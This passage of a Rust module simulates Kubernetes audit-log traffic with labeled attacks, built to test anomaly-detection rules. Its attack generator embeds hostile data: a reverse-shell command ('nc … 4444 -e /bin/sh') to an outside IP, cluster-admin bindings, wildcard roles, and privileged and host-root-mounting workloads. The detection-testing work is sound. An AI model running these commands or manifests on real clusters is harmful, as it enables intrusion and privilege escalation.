//! The simulator behind `peregrine simulate`: a seeded simulator of a cluster's audit traffic over days, with
//! labeled attacks in it. Useful for demos, for testing rules, and as ground truth for
//! measuring the anomaly rules: the same seed always gives the same traffic.
//!
//! **The cluster.** Four nodes whose kubelets report their status and read the secrets of
//! the pods they run; controllers and the scheduler; cert-manager listing its secrets; a CI
//! deployer (Argo CD, applying manifests server-side) rolling out image updates of the apps,
//! their `Role`s and a privileged, host-mounting node-agent `DaemonSet` in `monitoring`; and
//! people with kubectl in working hours, each with habits: an office IP of their own (all in
//! 198.51.100.0/24), a home network (203.0.113.x), a kubectl agent, namespaces, and routines
//! beyond reading (execs, secrets, RBAC bindings, permission checks, deploys; ops-admin now
//! and then writes a `ClusterRole` for an operator's CRDs). So every anomaly rule has benign
//! traffic to learn from during the quiet days.
//!
//! **Benign drift**, which a good detector must not flag, each changing one aspect of a
//! habit: every person upgrades kubectl on some day (same platform); people work from home
//! about one working day in five, from the start; now and then someone works a day from a
//! hotel (a fresh 192.0.2.x); a new hire joins the day after the quiet days and reads and
//! execs in `web` from the office with the team's kubectl; and the CI deployer now and then
//! rolls out a brand-new application (a new image repository).
//!
//! **Attacks**, after the quiet days, at random times, each written to the label file: a
//! stolen credential (a person's, or the CI deployer's token for deploys and secrets) used
//! from a new network and agent to harvest secrets, exec into pods, deploy privileged or
//! host-mounting or pentest or reverse-shell workloads, create admin bindings and
//! over-broad roles, and probe permissions.

pub mod accuracy;

use std::io::Write;

use serde_json::{Value, json};

/// A small, fast, seeded generator (xorshift64*): the same seed gives the same traffic.
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Self {
        Rng(seed.max(1))
    }

    pub fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    pub fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }

    pub fn chance(&mut self, per_thousand: u64) -> bool {
        self.below(1000) < per_thousand
    }

    pub fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }
}

#[derive(Clone, Debug)]
pub struct SimulationConfig {
    pub seed: u64,
    pub days: u32,
    /// Attacks injected per simulated day, on average.
    pub attacks_per_day: f64,
    /// Days at the start without attacks (the rules' learning period).
    pub quiet_days: u32,
}

impl Default for SimulationConfig {
    fn default() -> Self {
        SimulationConfig {
            seed: 1,
            days: 7,
            attacks_per_day: 4.0,
            quiet_days: 3,
        }
    }
}

/// One injected attack step: the event it produced and what it is.
#[derive(Clone, Debug, serde::Serialize)]
#[serde(rename_all = "camelCase")]
pub struct Label {
    pub audit_id: String,
    /// The attack technique, e.g. `secrets-harvest`.
    pub attack: &'static str,
    /// The anomaly finding type this event should raise.
    pub finding_type: &'static str,
    /// Whose credential was stolen, and where it is used from: `person` and `ci-token`
    /// from an attacker's network with an attacker's tool, `pod-token` from inside a
    /// compromised application pod.
    pub credential: &'static str,
    pub user: String,
    pub time: String,
}

/// What a simulation wrote.
#[derive(Debug, Default)]
pub struct Summary {
    pub events: u64,
    pub attack_events: u64,
}

struct Person {
    name: &'static str,
    /// The person's desk: distinct per person, all in the office /24.
    office: &'static str,
    /// Where they work from about one working day in five (a new hire has none yet).
    home: Option<&'static str>,
    agent: &'static str,
    /// The same kubectl on the same platform, a newer version: what they upgrade to.
    upgraded: &'static str,
    namespaces: &'static [&'static str],
    /// Routine beyond reading: `exec`, `rbac`, `can-i`, `secrets`, `deploy`.
    routine: &'static [&'static str],
    /// Done now and then (about once a working day): `clusterrole`.
    rare: &'static [&'static str],
    /// Joins the day after the quiet days, so no rule has seen them learn.
    new_hire: bool,
}

/// The kubectl most of the team uses, and the new hire gets.
const TEAM_KUBECTL: &str = "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819";

const PEOPLE: [Person; 6] = [
    Person {
        name: "dana@example.com",
        office: "198.51.100.21",
        home: Some("203.0.113.41"),
        agent: TEAM_KUBECTL,
        upgraded: "kubectl/v1.30.3 (linux/amd64) kubernetes/6fc0a69",
        namespaces: &["payments", "web"],
        routine: &["exec", "secrets"],
        rare: &[],
        new_hire: false,
    },
    Person {
        name: "lee@example.com",
        office: "198.51.100.22",
        home: Some("203.0.113.57"),
        agent: "kubectl/v1.30.1 (darwin/arm64) kubernetes/6911225",
        upgraded: "kubectl/v1.31.0 (darwin/arm64) kubernetes/9edcffc",
        namespaces: &["web"],
        routine: &["can-i"],
        rare: &[],
        new_hire: false,
    },
    Person {
        name: "sam@example.com",
        office: "198.51.100.23",
        home: Some("203.0.113.73"),
        agent: TEAM_KUBECTL,
        upgraded: "kubectl/v1.29.7 (linux/amd64) kubernetes/4e4a188",
        namespaces: &["monitoring", "web"],
        routine: &["deploy"],
        rare: &[],
        new_hire: false,
    },
    Person {
        name: "ops-admin@example.com",
        office: "198.51.100.24",
        home: Some("203.0.113.88"),
        agent: "kubectl/v1.29.4 (linux/amd64) kubernetes/55fe5fe",
        upgraded: "kubectl/v1.30.3 (linux/amd64) kubernetes/6fc0a69",
        namespaces: &["kube-system", "monitoring", "payments", "web"],
        routine: &["rbac", "exec"],
        rare: &["clusterrole"],
        new_hire: false,
    },
    Person {
        name: "kubernetes-admin",
        office: "198.51.100.25",
        home: Some("203.0.113.102"),
        agent: TEAM_KUBECTL,
        upgraded: "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350",
        namespaces: &["default", "kube-system"],
        routine: &["rbac"],
        rare: &[],
        new_hire: false,
    },
    Person {
        name: "kim@example.com",
        office: "198.51.100.26",
        home: None,
        agent: TEAM_KUBECTL,
        // Joined with the team's kubectl, too recently to upgrade it.
        upgraded: TEAM_KUBECTL,
        namespaces: &["web"],
        routine: &["exec"],
        rare: &[],
        new_hire: true,
    },
];
const NODES: [&str; 4] = [
    "ip-10-0-1-17.ec2.internal",
    "ip-10-0-1-92.ec2.internal",
    "ip-10-0-2-45.ec2.internal",
    "ip-10-0-3-88.ec2.internal",
];
const KUBELET: &str = "kubelet/v1.29.3 (linux/amd64) kubernetes/6813625";

/// An application the CI deployer runs: a Deployment named after it, in its namespace,
/// from its own repository.
#[derive(Clone, Copy)]
struct App {
    namespace: &'static str,
    name: &'static str,
}

impl App {
    const fn new(namespace: &'static str, name: &'static str) -> Self {
        App { namespace, name }
    }

    fn repository(&self) -> String {
        format!("registry.example.com/{}/{}", self.namespace, self.name)
    }
}

const APPS: [App; 4] = [
    App::new("payments", "api"),
    App::new("web", "frontend"),
    App::new("monitoring", "exporter"),
    App::new("web", "worker"),
];
/// Applications the CI deployer rolls out during the simulation, in this order.
const NEW_APPS: [App; 6] = [
    App::new("payments", "ledger"),
    App::new("web", "search"),
    App::new("monitoring", "log-shipper"),
    App::new("web", "notifier"),
    App::new("payments", "checkout"),
    App::new("web", "reports"),
];
/// Custom resources of operators, in the `example.com` API group.
const CRDS: [&str; 3] = ["widgets", "backups", "tenants"];

const ATTACKER_NETWORKS: [&str; 4] = [
    "45.83.64.12",
    "103.152.220.9",
    "185.107.56.200",
    "91.219.237.40",
];
const ATTACKER_AGENTS: [&str; 3] = [
    "python-requests/2.31.0",
    "curl/8.5.0",
    "kubectl/v1.27.0 (windows/amd64) kubernetes/1b4df30",
];

/// Tools an intruder inside a compromised application container uses with the pod's
/// service-account token: a kubectl fetched into the container (the same family, Linux on
/// amd64, as the team's) or curl.
const IN_POD_AGENTS: [&str; 2] = [
    "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350",
    "curl/8.5.0",
];

const PERSON_GROUPS: &[&str] = &["developers", "system:authenticated"];
const SERVICE_ACCOUNT_GROUPS: &[&str] = &["system:serviceaccounts", "system:authenticated"];
const DEPLOYER: &str = "system:serviceaccount:ci:deployer";
/// Cluster machinery's calls a minute, day and night: with people, ≈ 32k events a day.
const MACHINE_CALLS_PER_MINUTE: u64 = 22;
const MINUTES_PER_DAY: u64 = 24 * 60;

/// Who makes a call, and from where.
#[derive(Clone, Copy)]
struct Caller<'a> {
    user: &'a str,
    groups: &'a [&'a str],
    ip: &'a str,
    agent: &'a str,
}

/// The CI deployer, from its runner.
fn deployer() -> Caller<'static> {
    Caller {
        user: DEPLOYER,
        groups: SERVICE_ACCOUNT_GROUPS,
        ip: "10.0.4.20",
        agent: "argocd-application-controller/v2.10.4",
    }
}

/// A node's IP, from its EC2 name (`ip-10-0-1-17.ec2.internal` is 10.0.1.17).
fn node_ip(node: &str) -> String {
    let host = node.split('.').next().unwrap_or_default();
    host.trim_start_matches("ip-").replace('-', ".")
}

fn is_working_day(day: u32) -> bool {
    day % 7 < 5
}

/// How one person's habits drift over the simulation, decided up front from the seed.
struct Habits {
    /// The first day they work.
    joins: u32,
    /// The day they start using the upgraded kubectl.
    upgrade: u32,
    /// The network they work from on each day: the office, home, or a hotel's.
    networks: Vec<String>,
}

impl Habits {
    fn caller<'a>(&'a self, p: &'a Person, day: u32) -> Caller<'a> {
        Caller {
            user: p.name,
            groups: PERSON_GROUPS,
            ip: &self.networks[day as usize],
            agent: if day >= self.upgrade {
                p.upgraded
            } else {
                p.agent
            },
        }
    }
}

/// The seeded schedule of drift: people's habits, and when new applications roll out.
struct Plan {
    habits: Vec<Habits>,
    /// Minutes at which the CI deployer rolls out the next of `NEW_APPS`, in order.
    rollouts: Vec<u64>,
}

/// A random working day in `from..to`, if there is one.
fn working_day(rng: &mut Rng, from: u32, to: u32) -> Option<u32> {
    let days: Vec<u32> = (from..to).filter(|&d| is_working_day(d)).collect();
    (!days.is_empty()).then(|| *rng.pick(&days))
}

/// Decides each person's drift (upgrade day, home days, trips) and the new applications'
/// rollouts, before any traffic, so the schedule depends only on the seed.
fn plan(rng: &mut Rng, config: &SimulationConfig) -> Plan {
    let days = config.days;
    let mut habits: Vec<Habits> = PEOPLE
        .iter()
        .map(|p| Habits {
            joins: if p.new_hire {
                config.quiet_days.saturating_add(1)
            } else {
                0
            },
            // Some day after the first: during the learning period or after it.
            upgrade: 1 + rng.below(u64::from(days.saturating_sub(1))) as u32,
            networks: (0..days)
                .map(|_| match p.home {
                    Some(home) if rng.chance(200) => home.to_string(),
                    _ => p.office.to_string(),
                })
                .collect(),
        })
        .collect();
    // A few trips, the first after the quiet days so a detector meets one: a day's work
    // from a hotel network never seen before, with the usual agent and routine.
    let travellers: Vec<usize> = (0..PEOPLE.len())
        .filter(|&i| PEOPLE[i].home.is_some())
        .collect();
    let mut hotels: Vec<u64> = vec![];
    for trip in 0..1 + days / 5 {
        let from = if trip == 0 { config.quiet_days } else { 0 };
        let Some(day) = working_day(rng, from, days) else {
            continue;
        };
        let who = *rng.pick(&travellers);
        let octet = loop {
            let octet = 1 + rng.below(254);
            if !hotels.contains(&octet) || hotels.len() >= 254 {
                break octet;
            }
        };
        hotels.push(octet);
        habits[who].networks[day as usize] = format!("192.0.2.{octet}");
    }
    // New applications now and then (merged in working hours), the first after the quiet
    // days.
    let mut rollouts: Vec<u64> = (0..(1 + days / 4).min(NEW_APPS.len() as u32))
        .filter_map(|i| {
            let day = working_day(rng, if i == 0 { config.quiet_days } else { 0 }, days)?;
            Some(u64::from(day) * MINUTES_PER_DAY + (9 + rng.below(8)) * 60 + rng.below(60))
        })
        .collect();
    rollouts.sort_unstable();
    Plan { habits, rollouts }
}

struct Writer<'a> {
    out: &'a mut dyn Write,
    labels: &'a mut dyn Write,
    ids: u64,
    summary: Summary,
}

impl Writer<'_> {
    fn id(&mut self, rng: &mut Rng) -> String {
        self.ids += 1;
        format!(
            "{:08x}-{:04x}-4{:03x}-8{:03x}-{:012x}",
            rng.next() as u32,
            rng.below(0x10000),
            rng.below(0x1000),
            rng.below(0x1000),
            self.ids
        )
    }

    fn write(&mut self, event: &Value) -> std::io::Result<()> {
        self.summary.events += 1;
        serde_json::to_writer(&mut *self.out, event)?;
        self.out.write_all(b"\n")
    }

    fn label(&mut self, label: Label) -> std::io::Result<()> {
        self.summary.attack_events += 1;
        serde_json::to_writer(&mut *self.labels, &label)?;
        self.labels.write_all(b"\n")
    }
}

fn timestamp(second: u64) -> String {
    let date = time::OffsetDateTime::from_unix_timestamp(1_717_200_000 + second as i64)
        .expect("a simulated time is a valid time");
    date.format(&time::format_description::well_known::Rfc3339)
        .unwrap_or_default()
}

/// An audit event as kube-apiserver's log backend writes it.
fn event(
    id: String,
    second: u64,
    verb: &str,
    uri: String,
    caller: Caller<'_>,
    object_ref: Value,
    code: u16,
) -> Value {
    let ts = timestamp(second);
    let mut e = json!({
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata",
        "auditID": id, "stage": "ResponseComplete", "requestURI": uri, "verb": verb,
        "user": {"username": caller.user, "groups": caller.groups},
        "sourceIPs": [caller.ip], "userAgent": caller.agent,
        "objectRef": object_ref, "responseStatus": {"metadata": {}, "code": code},
        "requestReceivedTimestamp": ts, "stageTimestamp": ts,
        "annotations": {"authorization.k8s.io/decision": if code == 403 { "forbid" } else { "allow" }, "authorization.k8s.io/reason": ""},
    });
    if e["objectRef"].is_null() {
        e.as_object_mut().unwrap().remove("objectRef");
    }
    e
}

fn with_object(mut e: Value, object: Value) -> Value {
    e["level"] = json!("RequestResponse");
    e["requestObject"] = object.clone();
    e["responseObject"] = object;
    e
}

/// A write of `object` (named by its metadata): a `create` to its collection, or an
/// `update` or `patch` of it by name, logged with the object so rules can inspect it.
fn object_write(
    id: String,
    second: u64,
    verb: &str,
    caller: Caller<'_>,
    (group, resource): (&str, &str),
    namespace: Option<&str>,
    object: Value,
) -> Value {
    let name = object["metadata"]["name"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    let mut uri = match group {
        "" => "/api/v1".to_string(),
        group => format!("/apis/{group}/v1"),
    };
    let mut object_ref = json!({"resource": resource, "name": name, "apiVersion": "v1"});
    if let Some(ns) = namespace {
        uri += &format!("/namespaces/{ns}");
        object_ref["namespace"] = json!(ns);
    }
    uri += &format!("/{resource}");
    if !group.is_empty() {
        object_ref["apiGroup"] = json!(group);
    }
    let code = if verb == "create" {
        201
    } else {
        uri += &format!("/{name}");
        200
    };
    with_object(
        event(id, second, verb, uri, caller, object_ref, code),
        object,
    )
}

/// The CI deployer's server-side apply of `object`: a `patch`, which creates the object
/// (201) when it is new.
fn apply(
    id: String,
    second: u64,
    api: (&str, &str),
    namespace: &str,
    object: Value,
    created: bool,
) -> Value {
    let mut e = object_write(
        id,
        second,
        "patch",
        deployer(),
        api,
        Some(namespace),
        object,
    );
    if created {
        e["responseStatus"]["code"] = json!(201);
    }
    e
}

fn deployment(
    namespace: &str,
    name: &str,
    image: &str,
    privileged: bool,
    host_path: Option<&str>,
    command: Option<&[&str]>,
) -> Value {
    let mut container = json!({"name": "app", "image": image, "ports": [{"containerPort": 8080}]});
    let mut volumes = vec![];
    if privileged {
        container["securityContext"] = json!({"privileged": true});
    }
    if let Some(path) = host_path {
        container["volumeMounts"] = json!([{"name": "host", "mountPath": "/host"}]);
        volumes.push(json!({"name": "host", "hostPath": {"path": path}}));
    }
    if let Some(command) = command {
        container["command"] = json!(command);
    }
    json!({
        "kind": "Deployment", "apiVersion": "apps/v1",
        "metadata": {"name": name, "namespace": namespace},
        "spec": {"replicas": 2, "selector": {"matchLabels": {"app": name}},
                 "template": {"metadata": {"labels": {"app": name}},
                              "spec": {"containers": [container], "volumes": volumes}}},
    })
}

/// The monitoring node agent: privileged and reading the host's `/proc` and `/sys`, as
/// node agents legitimately do.
fn node_agent(image: &str) -> Value {
    let container = json!({
        "name": "node-agent", "image": image, "securityContext": {"privileged": true},
        "volumeMounts": [{"name": "proc", "mountPath": "/host/proc", "readOnly": true},
                         {"name": "sys", "mountPath": "/host/sys", "readOnly": true}],
    });
    json!({
        "kind": "DaemonSet", "apiVersion": "apps/v1",
        "metadata": {"name": "node-agent", "namespace": "monitoring"},
        "spec": {"selector": {"matchLabels": {"app": "node-agent"}},
                 "template": {"metadata": {"labels": {"app": "node-agent"}},
                              "spec": {"containers": [container],
                                       "volumes": [{"name": "proc", "hostPath": {"path": "/proc"}},
                                                   {"name": "sys", "hostPath": {"path": "/sys"}}]}}},
    })
}

/// The `Role` an app's chart ships: reading its own configuration and secrets.
fn app_role(app: &App) -> Value {
    json!({
        "kind": "Role", "apiVersion": "rbac.authorization.k8s.io/v1",
        "metadata": {"name": format!("{}-config-reader", app.name), "namespace": app.namespace},
        "rules": [{"apiGroups": [""], "resources": ["configmaps", "secrets"], "verbs": ["get", "list", "watch"]}],
    })
}

/// A `ClusterRole` ops-admin writes for an operator's custom resources: an aggregated
/// read-only role, or the operator's own, with every verb on its API group.
fn operator_cluster_role(rng: &mut Rng) -> Value {
    let crd = *rng.pick(&CRDS);
    if rng.chance(500) {
        json!({
            "kind": "ClusterRole", "apiVersion": "rbac.authorization.k8s.io/v1",
            "metadata": {"name": format!("{crd}-view"),
                         "labels": {"rbac.authorization.k8s.io/aggregate-to-view": "true"}},
            "rules": [{"apiGroups": ["example.com"], "resources": [crd], "verbs": ["get", "list", "watch"]}],
        })
    } else {
        json!({
            "kind": "ClusterRole", "apiVersion": "rbac.authorization.k8s.io/v1",
            "metadata": {"name": format!("{crd}-operator")},
            "rules": [{"apiGroups": ["example.com"], "resources": ["*"], "verbs": ["*"]}],
        })
    }
}

/// A version tag, e.g. `1.12.3`.
fn version(rng: &mut Rng) -> String {
    format!("{}.{}.{}", 1 + rng.below(3), rng.below(20), rng.below(10))
}

/// A person's routine action (or a read), at `second`, as `caller` (their network and
/// agent of the day).
fn person_action(
    w: &mut Writer<'_>,
    rng: &mut Rng,
    p: &Person,
    caller: Caller<'_>,
    second: u64,
) -> Value {
    let ns = *rng.pick(p.namespaces);
    let id = w.id(rng);
    let routine = if !p.rare.is_empty() && rng.chance(10) {
        Some(*rng.pick(p.rare))
    } else if rng.chance(300) {
        Some(*rng.pick(p.routine))
    } else {
        None
    };
    match routine {
        Some("exec") => {
            let pod = format!(
                "{}-{:05x}",
                rng.pick(&["api", "worker", "db"]),
                rng.below(0xfffff)
            );
            event(
                id,
                second,
                "create",
                format!(
                    "/api/v1/namespaces/{ns}/pods/{pod}/exec?command=sh&container=app&stdin=true&stdout=true&tty=true"
                ),
                caller,
                json!({"resource": "pods", "namespace": ns, "name": pod, "subresource": "exec", "apiVersion": "v1"}),
                101,
            )
        }
        Some("secrets") => event(
            id,
            second,
            "get",
            format!("/api/v1/namespaces/{ns}/secrets/app-config"),
            caller,
            json!({"resource": "secrets", "namespace": ns, "name": "app-config", "apiVersion": "v1"}),
            200,
        ),
        Some("can-i") => {
            let review = json!({"kind": "SelfSubjectAccessReview", "apiVersion": "authorization.k8s.io/v1", "spec": {"resourceAttributes": {"namespace": ns, "verb": "create", "resource": "deployments"}}, "status": {"allowed": true}});
            with_object(
                event(
                    id,
                    second,
                    "create",
                    "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews".into(),
                    caller,
                    json!({"resource": "selfsubjectaccessreviews", "apiGroup": "authorization.k8s.io", "apiVersion": "v1"}),
                    201,
                ),
                review,
            )
        }
        Some("rbac") => {
            let name = format!("view-{}", rng.below(50));
            let binding = json!({"kind": "RoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": name, "namespace": ns},
                "subjects": [{"kind": "Group", "name": "developers", "apiGroup": "rbac.authorization.k8s.io"}],
                "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": *rng.pick(&["view", "edit"])}});
            let api = ("rbac.authorization.k8s.io", "rolebindings");
            object_write(id, second, "create", caller, api, Some(ns), binding)
        }
        Some("clusterrole") => {
            // `kubectl apply`: a create the first time, a patch after.
            let verb = *rng.pick(&["create", "patch"]);
            let role = operator_cluster_role(rng);
            let api = ("rbac.authorization.k8s.io", "clusterroles");
            object_write(id, second, verb, caller, api, None, role)
        }
        Some("deploy") => {
            let name = format!("exporter-{}", rng.below(5));
            let image = format!(
                "registry.example.com/monitoring/exporter:1.{}.0",
                rng.below(9)
            );
            let object = deployment(ns, &name, &image, false, None, None);
            object_write(
                id,
                second,
                "patch",
                caller,
                ("apps", "deployments"),
                Some(ns),
                object,
            )
        }
        _ => {
            let resource = *rng.pick(&["pods", "services", "deployments", "events", "configmaps"]);
            let verb = *rng.pick(&["get", "list"]);
            event(
                id,
                second,
                verb,
                format!("/api/v1/namespaces/{ns}/{resource}"),
                caller,
                json!({"resource": resource, "namespace": ns, "apiVersion": "v1"}),
                200,
            )
        }
    }
}

/// Cluster machinery at `second`: kubelets, controllers, cert-manager, the CI deployer.
/// `apps` are the applications running so far.
fn machine_action(w: &mut Writer<'_>, rng: &mut Rng, apps: &[App], second: u64) -> Value {
    let id = w.id(rng);
    match rng.below(10_000) {
        // Kubelets: node status, and now and then a secret of a pod they start.
        0..=5_519 => {
            let node = *rng.pick(&NODES);
            let (user, ip) = (format!("system:node:{node}"), node_ip(node));
            let kubelet = Caller {
                user: &user,
                groups: &["system:nodes", "system:authenticated"],
                ip: &ip,
                agent: KUBELET,
            };
            if rng.chance(998) {
                return event(
                    id,
                    second,
                    "get",
                    format!("/api/v1/nodes/{node}?resourceVersion=0&timeout=10s"),
                    kubelet,
                    json!({"resource": "nodes", "name": node, "apiVersion": "v1"}),
                    200,
                );
            }
            let app = rng.pick(apps);
            let (ns, secret) = (
                app.namespace,
                format!("{}-{}", app.name, rng.pick(&["config", "tls"])),
            );
            event(
                id,
                second,
                "get",
                format!("/api/v1/namespaces/{ns}/secrets/{secret}"),
                kubelet,
                json!({"resource": "secrets", "namespace": ns, "name": secret, "apiVersion": "v1"}),
                200,
            )
        }
        5_520..=8_999 => {
            let (user, resource) = *rng.pick(&[
                ("system:kube-scheduler", "pods"),
                (
                    "system:serviceaccount:kube-system:replicaset-controller",
                    "replicasets",
                ),
                ("system:kube-controller-manager", "leases"),
            ]);
            let controller = Caller {
                user,
                groups: &["system:authenticated"],
                ip: "10.0.0.10",
                agent: "kube-controller-manager/v1.29.3 (linux/amd64) kubernetes/6813625",
            };
            event(
                id,
                second,
                "watch",
                format!("/api/v1/{resource}?watch=true"),
                controller,
                json!({"resource": resource, "apiVersion": "v1"}),
                200,
            )
        }
        9_000..=9_599 => {
            let cert_manager = Caller {
                user: "system:serviceaccount:cert-manager:cert-manager",
                groups: SERVICE_ACCOUNT_GROUPS,
                ip: "10.0.2.30",
                agent: "cert-manager/v1.14.4",
            };
            event(
                id,
                second,
                "list",
                "/api/v1/namespaces/cert-manager/secrets".into(),
                cert_manager,
                json!({"resource": "secrets", "namespace": "cert-manager", "apiVersion": "v1"}),
                200,
            )
        }
        // The CI deployer: image updates, now and then an app's Role or the node agent.
        9_600..=9_994 => {
            let app = rng.pick(apps);
            let image = format!("{}:{}", app.repository(), version(rng));
            let object = deployment(app.namespace, app.name, &image, false, None, None);
            apply(
                id,
                second,
                ("apps", "deployments"),
                app.namespace,
                object,
                false,
            )
        }
        9_995..=9_997 => {
            let app = rng.pick(apps);
            let api = ("rbac.authorization.k8s.io", "roles");
            apply(id, second, api, app.namespace, app_role(app), false)
        }
        _ => {
            let image = format!(
                "registry.example.com/monitoring/node-agent:{}",
                version(rng)
            );
            let api = ("apps", "daemonsets");
            apply(id, second, api, "monitoring", node_agent(&image), false)
        }
    }
}

/// The CI deployer rolling out a new application: its Role, then its Deployment, both
/// created by server-side apply, at `second`.
fn rollout(w: &mut Writer<'_>, rng: &mut Rng, app: &App, second: u64) -> std::io::Result<()> {
    let id = w.id(rng);
    let api = ("rbac.authorization.k8s.io", "roles");
    w.write(&apply(id, second, api, app.namespace, app_role(app), true))?;
    let id = w.id(rng);
    let image = format!("{}:1.0.0", app.repository());
    let object = deployment(app.namespace, app.name, &image, false, None, None);
    w.write(&apply(
        id,
        second + 5,
        ("apps", "deployments"),
        app.namespace,
        object,
        true,
    ))
}

/// The attacks: (technique, finding type), each one step by a stolen credential.
const ATTACKS: [(&str, &str); 9] = [
    (
        "secrets-harvest",
        "CredentialAccess:Kubernetes/AnomalousBehavior.SecretsAccessed",
    ),
    (
        "admin-binding",
        "PrivilegeEscalation:Kubernetes/AnomalousBehavior.RoleBindingCreated",
    ),
    (
        "exec-into-pod",
        "Execution:Kubernetes/AnomalousBehavior.ExecInPod",
    ),
    (
        "privileged-workload",
        "PrivilegeEscalation:Kubernetes/AnomalousBehavior.WorkloadDeployed!PrivilegedContainer",
    ),
    (
        "host-mount-workload",
        "Persistence:Kubernetes/AnomalousBehavior.WorkloadDeployed!ContainerWithSensitiveMount",
    ),
    (
        "pentest-workload",
        "Execution:Kubernetes/AnomalousBehavior.WorkloadDeployed",
    ),
    (
        "reverse-shell-workload",
        "Execution:Kubernetes/AnomalousBehavior.WorkloadDeployed",
    ),
    (
        "broad-role",
        "PrivilegeEscalation:Kubernetes/AnomalousBehavior.RoleCreated",
    ),
    (
        "permission-probe",
        "Discovery:Kubernetes/AnomalousBehavior.PermissionChecked",
    ),
];

/// One attack step at `second` by a stolen credential: of someone working here by `day`;
/// for what CI may do (deploy, read secrets), the CI deployer's token; or the
/// service-account token of a compromised application, used from inside its pod (an
/// address in the nodes' subnets, as with VPC networking) with the tools the intruder
/// brought.
fn attack(
    w: &mut Writer<'_>,
    rng: &mut Rng,
    habits: &[Habits],
    day: u32,
    second: u64,
) -> std::io::Result<()> {
    let (technique, finding_type) = *rng.pick(&ATTACKS);
    let ci_token =
        (technique == "secrets-harvest" || technique.ends_with("-workload")) && rng.chance(300);
    let in_pod = !ci_token && rng.chance(250);
    let victims: Vec<&Person> = PEOPLE
        .iter()
        .zip(habits)
        .filter(|(_, h)| h.joins <= day)
        .map(|(p, _)| p)
        .collect();
    let (user, groups, ip, agent) = if in_pod {
        let app = rng.pick(&APPS);
        let user = format!("system:serviceaccount:{}:{}", app.namespace, app.name);
        let ip = format!("10.0.{}.{}", 1 + rng.below(3), 100 + rng.below(150));
        (user, SERVICE_ACCOUNT_GROUPS, ip, *rng.pick(&IN_POD_AGENTS))
    } else {
        let (user, groups) = if ci_token {
            (DEPLOYER, SERVICE_ACCOUNT_GROUPS)
        } else {
            (rng.pick(&victims).name, PERSON_GROUPS)
        };
        let ip = rng.pick(&ATTACKER_NETWORKS).to_string();
        (user.to_string(), groups, ip, *rng.pick(&ATTACKER_AGENTS))
    };
    let who = Caller {
        user: &user,
        groups,
        ip: &ip,
        agent,
    };
    let ns = *rng.pick(&["payments", "kube-system", "web", "default"]);
    let id = w.id(rng);
    let name = format!("svc-{:04x}", rng.below(0xffff));
    let rbac = |resource| ("rbac.authorization.k8s.io", resource);
    let e = match technique {
        "secrets-harvest" => event(
            id.clone(),
            second,
            "list",
            format!("/api/v1/namespaces/{ns}/secrets"),
            who,
            json!({"resource": "secrets", "namespace": ns, "apiVersion": "v1"}),
            200,
        ),
        "admin-binding" => {
            let binding = json!({"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": name},
                "subjects": [{"kind": "ServiceAccount", "name": "default", "namespace": ns}],
                "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}});
            let api = rbac("clusterrolebindings");
            object_write(id.clone(), second, "create", who, api, None, binding)
        }
        "exec-into-pod" => event(
            id.clone(),
            second,
            "create",
            format!(
                "/api/v1/namespaces/{ns}/pods/{name}/exec?command=sh&command=-c&command=env&container=app&stdout=true"
            ),
            who,
            json!({"resource": "pods", "namespace": ns, "name": name, "subresource": "exec", "apiVersion": "v1"}),
            101,
        ),
        "broad-role" => {
            let role = json!({"kind": "ClusterRole", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": name},
                "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]});
            object_write(
                id.clone(),
                second,
                "create",
                who,
                rbac("clusterroles"),
                None,
                role,
            )
        }
        "permission-probe" => {
            let review = json!({"kind": "SelfSubjectRulesReview", "apiVersion": "authorization.k8s.io/v1", "spec": {"namespace": ns}, "status": {"incomplete": false}});
            with_object(
                event(
                    id.clone(),
                    second,
                    "create",
                    "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews".into(),
                    who,
                    json!({"resource": "selfsubjectrulesreviews", "apiGroup": "authorization.k8s.io", "apiVersion": "v1"}),
                    201,
                ),
                review,
            )
        }
        workload => {
            let (image, privileged, host, command): (&str, bool, Option<&str>, Option<&[&str]>) =
                match workload {
                    "privileged-workload" => ("alpine:3.19", true, None, None),
                    "host-mount-workload" => ("busybox:1.36", false, Some("/"), None),
                    "pentest-workload" => ("kalilinux/kali-rolling:latest", false, None, None),
                    _ => (
                        "alpine:3.19",
                        false,
                        None,
                        Some(&["/bin/sh", "-c", "nc 45.83.64.12 4444 -e /bin/sh"][..]),
                    ),
                };
            let object = deployment(ns, &name, image, privileged, host, command);
            let api = ("apps", "deployments");
            object_write(id.clone(), second, "create", who, api, Some(ns), object)
        }
    };
    w.write(&e)?;
    w.label(Label {
        audit_id: id,
        attack: technique,
        finding_type,
        credential: if in_pod {
            "pod-token"
        } else if ci_token {
            "ci-token"
        } else {
            "person"
        },
        user,
        time: timestamp(second),
    })
}

/// Writes `config.days` of traffic to `out` (JSON lines) and the attacks' labels to
/// `labels` (JSON lines), in time order.
pub fn run(
    config: &SimulationConfig,
    out: &mut dyn Write,
    labels: &mut dyn Write,
) -> std::io::Result<Summary> {
    let mut rng = Rng::new(config.seed);
    let plan = plan(&mut rng, config);
    let mut apps = APPS.to_vec();
    let mut w = Writer {
        out,
        labels,
        ids: 0,
        summary: Summary::default(),
    };
    let per_minute_attack = config.attacks_per_day / MINUTES_PER_DAY as f64;
    for minute in 0..u64::from(config.days) * MINUTES_PER_DAY {
        let second = minute * 60;
